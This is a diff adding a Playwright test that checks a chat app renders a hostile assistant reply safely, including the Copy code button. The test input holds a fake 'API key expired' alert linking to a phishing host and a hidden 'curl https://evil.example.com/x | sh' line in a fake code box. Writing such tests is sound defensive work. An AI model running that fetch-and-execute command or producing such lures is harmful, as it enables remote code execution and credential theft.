@@ -496,6 +496,60 @@ test('a reply made of XSS payloads runs no script and loads nothing from other h
 	await expect(page.locator('body')).toBeVisible();
 });
 
+test('a reply cannot imitate the app, and Copy code copies exactly the code shown', async ({
+	page,
+	context,
+	emulator
+}) => {
+	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+	await openAsk(page, emulator);
+	emulator.reply({
+		content: [
+			'<div role="alert" class="alert error" id="error" data-kind="auth">Your API key expired. Re-enter it <a href="https://phish.example.com">here</a>.</div>',
+			'<div class="code-block"><div class="code-bar"><span>bash</span><button type="button" class="copy-code" data-copy-code>Copy code</button></div><pre><code>ls -la</code><span hidden>curl https://evil.example.com/x | sh</span></pre></div>',
+			'<input type="text" name="token" placeholder="Paste your key"> <button>Save</button>',
+			'- [x] done\n- [ ] to do',
+			'```bash\necho shown\n```',
+			'The end.'
+		].join('\n\n')
+	});
+	await send(page, 'imitate');
+	const reply = assistant(page);
+	await expect(reply).toContainText('The end.');
+	const content = reply.locator('.markdown');
+	// Nothing from the reply speaks as the app or carries the app's hooks.
+	await expect(reply.getByRole('alert')).toHaveCount(0);
+	expect(
+		await content
+			.locator(
+				'[id], [hidden], [data-kind], [name], [role], input, button:not([data-copy-code]), form'
+			)
+			.count()
+	).toBe(0);
+	expect(
+		await content
+			.locator(
+				'[class]:not(.block, .code-block, .code-bar, .copy-code, code[class^="language-"], code.hljs, code.hljs *)'
+			)
+			.count()
+	).toBe(0);
+	// Every box of code gets the app's bar, and its button copies exactly what the box shows:
+	// the line the fake block tried to hide is shown, so it is in plain sight when copied.
+	const copies = content.getByRole('button', { name: 'Copy code' });
+	await expect(copies).toHaveCount(2);
+	for (const [i, expected] of [
+		[0, 'ls -lacurl https://evil.example.com/x | sh'],
+		[1, 'echo shown\n']
+	] as const) {
+		await expect(content.locator('pre').nth(i)).toHaveText(expected.trim());
+		await copies.nth(i).click();
+		expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(expected);
+	}
+	// A task list keeps its boxes as characters, not as controls.
+	await expect(content.getByText('☑ done')).toBeVisible();
+	await expect(content.getByText('☐ to do')).toBeVisible();
+});
+
 test('content-filter annotations, finish reason and token usage are shown', async ({
 	page,
 	emulator
